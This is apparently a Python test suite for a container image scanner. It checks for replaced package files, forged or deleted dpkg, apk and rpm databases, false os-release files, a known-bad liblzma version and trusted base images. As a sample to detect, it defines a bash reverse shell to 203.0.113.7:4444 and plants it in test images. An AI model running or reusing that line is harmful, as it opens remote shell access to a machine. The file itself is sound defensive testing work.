"""Files of packages: unmodified, replaced, owned by nobody; databases that were rewritten or deleted; and what a known base is worth.

The Debian image is made of files and the package database of the machine that runs the test; the Alpine image's database is made here.
"""
import base64
import hashlib
import os
import shutil
import subprocess
import sys

import support
import images
from images import File, Image

INFO = "/var/lib/dpkg/info/"
MINER = images.miner_elf()
# A reverse shell that nothing starts.
SHELL = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"


def read(path):
    with open(path, "rb") as file:
        return file.read()


def status_of(*names):
    """The paragraphs of these packages from this machine's database."""
    found = []
    for paragraph in read("/var/lib/dpkg/status").decode().split("\n\n"):
        if any(paragraph.startswith(f"Package: {name}\n") for name in names):
            found.append(paragraph.strip("\n"))
    assert len(found) == len(names), found
    return "\n\n".join(found) + "\n"


def list_file(name, suffix):
    for stem in (name, name + ":amd64", name + ":arm64"):
        if os.path.exists(INFO + stem + suffix):
            return INFO + stem + suffix
    raise AssertionError(f"no {suffix} of {name}")


def package_files(*names):
    """The files of packages of this machine, with the links and folders on the way, as a layer has them."""
    files = {}
    for name in names:
        for suffix in (".list", ".md5sums"):
            path = list_file(name, suffix)
            files[path] = File(path, read(path))
        for path in read(list_file(name, ".list")).decode().split("\n"):
            if path in ("", "/."):
                continue
            real = os.path.realpath(os.path.dirname(path)) + "/" + os.path.basename(path)
            if os.path.islink(real):
                if real not in ("/bin", "/sbin", "/lib", "/lib64", "/lib32", "/libx32"):
                    files[real] = File(real, link=os.readlink(real))
            elif os.path.isfile(real):
                files[real] = File(real, read(real), mode=os.stat(real).st_mode & 0o7777)
    return [files[path] for path in sorted(files)]


def merged_links():
    return [File("/" + name, link="usr/" + name) for name in ("bin", "lib", "lib64", "sbin")]


NAMES = ("coreutils", "libpam-modules", "login", "dash")


def base_files():
    return merged_links() + package_files(*NAMES) + [
        File("/etc/os-release", 'ID=debian\nVERSION_ID="12"\n'), File("/var/lib/dpkg/status", status_of(*NAMES))]


def base_layer(replace=None, add=()):
    files = {file.path: file for file in base_files()}
    for file in list(replace or []) + list(add):
        files[file.path] = file
    return images.layer(*files.values())


def scan(image, *arguments, check=None, name="latest"):
    with support.temporary_folder() as folder:
        images.write_layout(folder, {name: image})
        return support.scan(f"oci:{folder}", *arguments, check=check)[1]


def of_category(report, category="integrity"):
    # The samples' programs need no library, which is a finding of its own where a system tool stands (binary_test.py).
    return [f for f in report["findings"] if f["category"] == category and f["rule"] != "integrity.static-system-tool"]


def rules_of(report):
    return sorted({f["rule"] for f in report["findings"]})


def pam_path():
    for line in read(list_file("libpam-modules", ".list")).decode().split("\n"):
        if line.endswith("/pam_unix.so"):
            return os.path.realpath(line)
    raise AssertionError("no pam_unix.so")


def test_an_untouched_image_has_no_finding():
    report = scan(Image([base_layer()]), check=0)
    assert report["verdict"] == "clean" and not of_category(report), of_category(report)


def test_a_replaced_program_is_found_with_the_name_of_its_package():
    other = images.elf(b"another program")
    for path, package in (("/usr/bin/ls", "coreutils"), (pam_path(), "libpam-modules"), ("/usr/bin/login", "login")):
        if not os.path.exists(path):
            path = "/bin/login"
        for layers in ([base_layer(replace=[File(path, other, mode=0o755)])], [base_layer(), images.layer(File(path, other, mode=0o755))],
                       [base_layer(), images.layer(File(path.replace("/usr", "", 1), other, mode=0o755))]):
            report = scan(Image(layers))
            found = of_category(report)
            assert [f["rule"] for f in found] == ["integrity.modified-security-file"], (path, found)
            assert f"package {package} " in found[0]["evidence"] and hashlib.md5(other).hexdigest() in found[0]["evidence"], found[0]
            assert found[0]["location"]["layer"] == images.digest(layers[-1]), found[0]["location"]
            assert report["verdict"] == "suspicious", report["reasons"]


def test_another_program_of_a_package_weighs_less():
    report = scan(Image([base_layer(), images.layer(File("/usr/bin/md5sum", images.elf(b"x"), mode=0o755))]))
    found = of_category(report)
    assert [(f["rule"], f["severity"]) for f in found] == [("integrity.modified-package-file", "medium")], found
    assert report["verdict"] == "clean", report["reasons"]


def test_innocent_changes_give_nothing():
    compiled = File("/usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12) + b"code")
    noise = [
        compiled, File("/etc/ld.so.cache", b"glibc-ld.so.cache1.1" + bytes(100)), File("/etc/ssl/certs/ca-certificates.crt", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"),
        File("/boot/initrd.img-6.1", b"070701" + bytes(200)), File("/usr/bin/editor", link="/etc/alternatives/editor"), File("/etc/alternatives/editor", link="/usr/bin/vim.basic"),
        File("/etc/login.defs", "UMASK 027\n"), File("/etc/pam.d/login", "auth required pam_unix.so\n"), File("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", mode=0o755),
        File("/var/lib/dpkg/statoverride", "root root 4755 /usr/bin/ls\n")]
    report = scan(Image([base_layer(), images.layer(*noise)]), check=0)
    assert not of_category(report), of_category(report)


def test_a_diverted_file_is_not_a_modified_one():
    # What many images of Ubuntu and Debian do to programs that must not run in a container.
    real = read("/usr/bin/mktemp")
    layer = images.layer(File("/var/lib/dpkg/diversions", "/usr/bin/mktemp\n/usr/bin/mktemp.distrib\n:\n"), File("/usr/bin/mktemp.distrib", real, mode=0o755),
                         File("/usr/bin/mktemp", images.elf(b"wrapper"), mode=0o755))
    report = scan(Image([base_layer(), layer]), check=0)
    assert [f["rule"] for f in of_category(report)] == ["integrity.unowned-executable"], of_category(report)
    assert of_category(report)[0]["weight"] == 0


def test_own_programs_in_usr_bin_are_listed_without_weight():
    report = scan(Image([base_layer(), images.layer(File("/usr/bin/app", images.elf(b"app"), mode=0o755))], entrypoint=["/usr/bin/app"]), check=0)
    found = of_category(report)
    assert [(f["rule"], f["weight"]) for f in found] == [("integrity.unowned-executable", 0)] and "/usr/bin/app" in found[0]["evidence"], found
    report = scan(Image([base_layer(), images.layer(File("/usr/local/bin/app", images.elf(b"app"), mode=0o755))]), check=0)
    assert not of_category(report), of_category(report)


def test_a_program_before_the_packages_own_in_path_is_found():
    report = scan(Image([base_layer(), images.layer(File("/usr/local/bin/ls", images.elf(b"ls"), mode=0o755))]))
    assert [f["rule"] for f in of_category(report)] == ["integrity.unowned-security-program"], of_category(report)


def test_an_unowned_pam_module_is_found():
    path = os.path.dirname(pam_path()) + "/pam_helper.so"
    report = scan(Image([base_layer(), images.layer(File(path, images.elf(b"pam"), mode=0o644))]))
    assert [f["rule"] for f in of_category(report)] == ["integrity.unowned-security-program"], of_category(report)


def changed_checksums(*lines, remove=None):
    path = list_file("coreutils", ".md5sums")
    text = read(path).decode()
    if remove:
        text = "".join(line + "\n" for line in text.split("\n") if line and not line.endswith("  " + remove))
    return File(path, text + "".join(f"{hashlib.md5(content).hexdigest()}  {name.lstrip('/')}\n" for name, content in lines))


def test_a_rewritten_database_neither_hides_the_replaced_file_nor_itself():
    other = images.elf(b"other")
    layer = images.layer(File("/usr/bin/ls", other, mode=0o755), changed_checksums(("/usr/bin/ls", other), remove="usr/bin/ls"))
    report = scan(Image([base_layer(), layer]))
    rules = [f["rule"] for f in of_category(report)]
    assert sorted(rules) == ["integrity.modified-security-file", "integrity.package-database-rewritten"], of_category(report)
    assert "coreutils" in next(f for f in of_category(report) if "rewritten" in f["rule"])["evidence"]


def weight_of_shell(report):
    return [(f["weight"], f["context"]["package"]) for f in report["findings"] if f["category"] == "reverse-shell"]


def test_an_added_line_of_checksums_silences_nothing():
    hidden = File("/usr/share/tool/run.sh", SHELL, mode=0o755)
    alone = weight_of_shell(scan(Image([base_layer(), images.layer(hidden)])))
    assert alone and alone[0][0] > 0
    silenced = weight_of_shell(scan(Image([base_layer(), images.layer(hidden, changed_checksums(("/usr/share/tool/run.sh", SHELL)))])))
    assert silenced == alone, (silenced, alone)
    # A list of a package that is not installed is worth nothing.
    own_list = File(INFO + "tool.md5sums", f"{hashlib.md5(SHELL).hexdigest()}  usr/share/tool/run.sh\n")
    assert weight_of_shell(scan(Image([base_layer(), images.layer(hidden, own_list)]))) == alone
    # Neither is one that comes after the file.
    status = File("/var/lib/dpkg/status", status_of(*NAMES) + "\nPackage: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1\nDescription: x\n")
    assert weight_of_shell(scan(Image([base_layer(), images.layer(hidden), images.layer(own_list, status)]))) == alone


def test_an_installed_package_in_a_derived_image_is_quiet():
    status = File("/var/lib/dpkg/status", status_of(*NAMES) + "\nPackage: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1\nDescription: x\n")
    own_list = File(INFO + "tool.md5sums", f"{hashlib.md5(SHELL).hexdigest()}  usr/share/tool/run.sh\n")
    layer = images.layer(File("/usr/share/tool/run.sh", SHELL, mode=0o755), own_list, status)
    report = scan(Image([base_layer(), layer]), check=0)
    assert weight_of_shell(report) == [(0, "tool")] and not of_category(report), report["findings"]
    found = next(f for f in report["findings"] if f["category"] == "reverse-shell")
    assert found["context"]["package_trust"] == "self-declared"
    # What the entrypoint starts counts whoever owns it.
    assert scan(Image([base_layer(), layer], entrypoint=["/usr/share/tool/run.sh"]))["verdict"] == "malicious"


def test_an_update_of_a_package_is_no_rewriting():
    new = images.elf(b"new ls")
    status = status_of(*NAMES)
    version = next(line for line in status.split("Package: coreutils\n")[1].split("\n") if line.startswith("Version: "))
    layer = images.layer(File("/usr/bin/ls", new, mode=0o755), changed_checksums(("/usr/bin/ls", new), remove="usr/bin/ls"),
                         File("/var/lib/dpkg/status", status.replace(version, version + "+deb12u9")))
    report = scan(Image([base_layer(), layer]), check=0)
    assert not of_category(report), of_category(report)


def test_a_deleted_database_is_found_and_still_used():
    layer = images.layer(File("/var/lib/.wh.dpkg"), File("/usr/bin/ls", images.elf(b"other"), mode=0o755))
    report = scan(Image([base_layer(), layer]))
    assert sorted(f["rule"] for f in of_category(report)) == ["integrity.modified-security-file", "integrity.package-database-removed"], of_category(report)


def test_a_deleted_list_of_an_installed_package_is_found():
    path = list_file("coreutils", ".md5sums")
    layer = images.layer(File(os.path.dirname(path) + "/.wh." + os.path.basename(path)), File("/usr/bin/ls", images.elf(b"other"), mode=0o755))
    report = scan(Image([base_layer(), layer]))
    assert sorted(f["rule"] for f in of_category(report)) == ["integrity.modified-security-file", "integrity.package-database-rewritten"], of_category(report)


def test_a_false_os_release_is_found():
    loader = File("/usr/lib64/ld-linux-x86-64.so.2", images.elf(b"loader"), mode=0o755)
    honest = scan(Image([base_layer(), images.layer(File("/etc/os-release", "ID=raspbian\nID_LIKE=debian\n"))]))
    assert "integrity.false-os-release" not in rules_of(honest)
    lying = scan(Image([base_layer(add=[loader]), images.layer(File("/etc/os-release", "ID=alpine\nVERSION_ID=3.20\n"))]))
    assert "integrity.false-os-release" in rules_of(lying), rules_of(lying)


def test_a_version_that_is_known_to_be_bad_is_malicious():
    for version, bad in (("5.6.1-1", True), ("5.6.1+really5.4.5-1", False), ("5.4.1-0.2", False)):
        status = File("/var/lib/dpkg/status", status_of(*NAMES) + f"\nPackage: liblzma5\nStatus: install ok installed\nArchitecture: amd64\nVersion: {version}\nDescription: x\n")
        report = scan(Image([base_layer(replace=[status])]))
        assert (report["verdict"] == "malicious") == bad, (version, report["reasons"])


# --- distroless ------------------------------------------------------------------------------------------------------------------------

def distroless(content=b"#!/bin/sh\n:\n"):
    real = b"#!/bin/sh\n:\n"
    return images.layer(File("/usr/bin/tool", content, mode=0o755), File("/var/lib/dpkg/status.d/tool", "Package: tool\nVersion: 1.0\nArchitecture: amd64\nMaintainer: x\n"),
                        File("/var/lib/dpkg/status.d/tool.md5sums", f"{hashlib.md5(real).hexdigest()}  usr/bin/tool\n"))


def test_distroless_images_are_compared_too():
    assert not of_category(scan(Image([distroless()]), check=0))
    found = of_category(scan(Image([distroless(b"#!/bin/sh\nexit\n")])))
    assert [f["rule"] for f in found] == ["integrity.modified-package-file"] and "package tool 1.0" in found[0]["evidence"], found


# --- apk -------------------------------------------------------------------------------------------------------------------------------

def apk_database(*packages):
    text = ""
    for name, version, files in packages:
        text += f"C:Q1{base64.b64encode(hashlib.sha1((name + version).encode()).digest()).decode()}\nP:{name}\nV:{version}\nA:x86_64\n"
        folder = None
        for path, content in files:
            if os.path.dirname(path) != folder:
                folder = os.path.dirname(path)
                text += f"F:{folder.lstrip('/')}\n"
            text += f"R:{os.path.basename(path)}\na:0:0:755\nZ:Q1{base64.b64encode(hashlib.sha1(content).digest()).decode()}\n"
        text += "\n"
    return File("/lib/apk/db/installed", text)


BUSYBOX = images.elf(b"busybox")


def alpine(*more, busybox=BUSYBOX):
    return images.layer(File("/etc/apk/world", "busybox\n"), File("/etc/os-release", "ID=alpine\n"), File("/bin/busybox", busybox, mode=0o755), File("/bin/ls", link="/bin/busybox"),
                        apk_database(("busybox", "1.36.1-r5", [("/bin/busybox", BUSYBOX)])), *more)


def test_alpine_images_are_compared_by_sha1():
    assert not of_category(scan(Image([alpine()]), check=0))
    found = of_category(scan(Image([alpine(busybox=images.elf(b"other"))])))
    assert [f["rule"] for f in found] == ["integrity.modified-security-file"] and "package busybox 1.36.1-r5" in found[0]["evidence"], found


def test_a_rewritten_database_of_apk_is_found():
    other = images.elf(b"other")
    layer = images.layer(File("/bin/busybox", other, mode=0o755), apk_database(("busybox", "1.36.1-r5", [("/bin/busybox", other)])))
    assert [f["rule"] for f in of_category(scan(Image([alpine(), layer])))] == ["integrity.modified-security-file", "integrity.package-database-rewritten"]
    layer = images.layer(File("/bin/busybox", other, mode=0o755), apk_database(("busybox", "1.36.1-r6", [("/bin/busybox", other)])))
    assert not of_category(scan(Image([alpine(), layer]), check=0)), "an update"


# --- rpm -------------------------------------------------------------------------------------------------------------------------------

SPEC = """Name: tool
Version: 1.5
Release: %s
Summary: x
License: x
BuildArch: noarch
%%description
x
%%install
mkdir -p %%{buildroot}/usr/bin
cp %s %%{buildroot}/usr/bin/top
%%files
%%attr(755,root,root) /usr/bin/top
"""


def rpm_database(folder, program, release="1"):
    """rpm's own database of a package that has `program` as /usr/bin/top."""
    os.makedirs(folder)
    with open(folder + "/program", "wb") as file:
        file.write(program)
    with open(folder + "/tool.spec", "w") as file:
        file.write(SPEC % (release, folder + "/program"))
    support.run("rpmbuild", "--define", f"_topdir {folder}/build", "--define", "_binaries_in_noarch_packages_terminate_build 0", "--define", "__os_install_post %{nil}", "-bb", folder + "/tool.spec")
    support.run("rpm", "--define", "_db_backend sqlite", "--dbpath", folder + "/db", "--justdb", "--nodeps", "--noscripts", "-i", f"{folder}/build/RPMS/noarch/tool-1.5-{release}.noarch.rpm")
    return File("/var/lib/rpm/rpmdb.sqlite", read(folder + "/db/rpmdb.sqlite"))


def test_images_with_rpm_are_compared_by_sha256():
    if not shutil.which("rpmbuild"):
        print("skipped: rpmbuild is not installed")
        return
    top, other = images.elf(b"top"), images.elf(b"other")
    with support.temporary_folder() as folder:
        release = File("/etc/os-release", "ID=fedora\n")
        database, updated, forged = rpm_database(folder + "/1", top), rpm_database(folder + "/2", other, "2"), rpm_database(folder + "/3", other)
        base = images.layer(release, File("/usr/bin/top", top, mode=0o755), database)
        assert not of_category(scan(Image([base]), check=0))
        found = of_category(scan(Image([images.layer(release, File("/usr/bin/top", other, mode=0o755), database)])))
        assert [f["rule"] for f in found] == ["integrity.modified-security-file"] and "package tool 1.5-1 (rpm)" in found[0]["evidence"], found
        replaced = File("/usr/bin/top", other, mode=0o755)
        assert not of_category(scan(Image([base, images.layer(replaced, updated)]), check=0)), "an update"
        rules = sorted(f["rule"] for f in of_category(scan(Image([base, images.layer(replaced, forged)]))))
        assert rules == ["integrity.modified-security-file", "integrity.package-database-rewritten"], rules


# --- bases -------------------------------------------------------------------------------------------------------------------------------

def trust(bases, *targets, check=0):
    done = subprocess.run([support.LAZARET, "intel", "trust-base", "--no-cache", "--bases", bases, *targets], capture_output=True, text=True, timeout=600)
    assert done.returncode == check, done.stderr + done.stdout
    return done.stdout + done.stderr


def test_a_trusted_base_is_known_in_what_is_built_on_it():
    with support.temporary_folder() as folder:
        base, bases = base_layer(), folder + "/data/bases"
        added = images.layer(File("/usr/bin/app", images.elf(b"app"), mode=0o755), File("/app", folder=True), File("/app/data", "x"))
        images.write_layout(folder + "/base", {"debian-12": Image([base])})
        images.write_layout(folder + "/app", {"latest": Image([base, added])})
        unknown = support.scan(f"oci:{folder}/app", "--bases", bases, check=0)[1]
        assert unknown["base"] == {"reference": "", "digest": "", "chain_id": "", "layers": 0, "known": False}, unknown["base"]
        trust(bases, f"oci:{folder}/base", "--reference", "debian:12")
        table = open(bases).read()
        trust(bases, f"oci:{folder}/base", "--reference", "debian:12")
        assert open(bases).read() == table, "adding again changes nothing"
        report = support.scan(f"oci:{folder}/app", "--bases", bases, check=0)[1]
        assert report["base"]["reference"] == "debian:12" and report["base"]["chain_id"] == images.digest(base) and report["base"]["known"], report["base"]
        assert report["base"]["layers"] == 1 and report["added"] == {"layers": 1, "files": 2}, report["added"]
        packages = report["image"]["manifests"][0]["packages"]
        assert packages == [{"manager": "dpkg", "known_base": len(NAMES), "self_declared": 0, "not_believed": 0}], packages
        assert report["engine"]["ruleset"] != unknown["engine"]["ruleset"], "the table is part of what makes the report"
        shown = support.run(support.LAZARET, "scan", "--no-cache", "--format", "table", "--bases", bases, f"oci:{folder}/app")
        assert "debian:12 (known), added by publisher: 1 layer, 2 files" in shown, shown
        listed = support.run(support.LAZARET, "intel", "list-bases", "--bases", bases)
        assert images.digest(base) in listed and "debian:12" in listed


def test_history_and_labels_make_no_base():
    with support.temporary_folder() as folder:
        bases = folder + "/bases"
        images.write_layout(folder + "/base", {"latest": Image([base_layer()])})
        trust(bases, f"oci:{folder}/base", "--reference", "debian:12")
        other = Image([base_layer(add=[File("/usr/share/x", "x")])], labels={"org.opencontainers.image.base.name": "debian:12"},
                      history=[{"created_by": "/bin/sh -c #(nop) ADD file:debian in / "}])
        images.write_layout(folder + "/other", {"latest": other})
        assert not support.scan(f"oci:{folder}/other", "--bases", bases, check=0)[1]["base"]["known"]


def test_a_program_of_a_known_base_that_is_overwritten_is_found():
    with support.temporary_folder() as folder:
        base, bases = base_layer(add=[File("/opt/agent/run", images.elf(b"agent"), mode=0o755)]), folder + "/bases"
        images.write_layout(folder + "/base", {"latest": Image([base])})
        trust(bases, f"oci:{folder}/base")
        images.write_layout(folder + "/app", {"latest": Image([base, images.layer(File("/opt/agent/run", images.elf(b"other"), mode=0o755))])})
        found = of_category(support.scan(f"oci:{folder}/app", "--bases", bases, check=0)[1])
        assert [(f["rule"], f["severity"]) for f in found] == [("integrity.base-file-overwritten", "low")], found


def test_a_malicious_image_is_not_trusted_as_a_base():
    with support.temporary_folder() as folder:
        images.write_layout(folder + "/bad", {"latest": Image([images.layer(File("/run.sh", SHELL, mode=0o755))], entrypoint=["/run.sh"])})
        assert "malicious" in trust(folder + "/bases", f"oci:{folder}/bad", check=2)
        assert subprocess.run([support.LAZARET, "intel", "list-bases", "--bases", folder + "/bases"], capture_output=True, text=True, check=True).stdout == ""


def test_a_damaged_table_of_bases_is_named():
    with support.temporary_folder() as folder:
        with open(folder + "/bases", "w") as file:
            file.write("# lazaret bases v1\nsha256:zz 1/1 - x\n")
        images.write_layout(folder + "/app", {"latest": Image([images.layer(File("/x", "x"))])})
        assert "bases:2:" in support.scan(f"oci:{folder}/app", "--bases", folder + "/bases", check=2)[2]


if __name__ == "__main__":
    if not os.path.exists("/var/lib/dpkg/status"):
        print("needs a Debian system: its own packages are the sample")
        sys.exit(support.SKIP)
    support.main(globals())
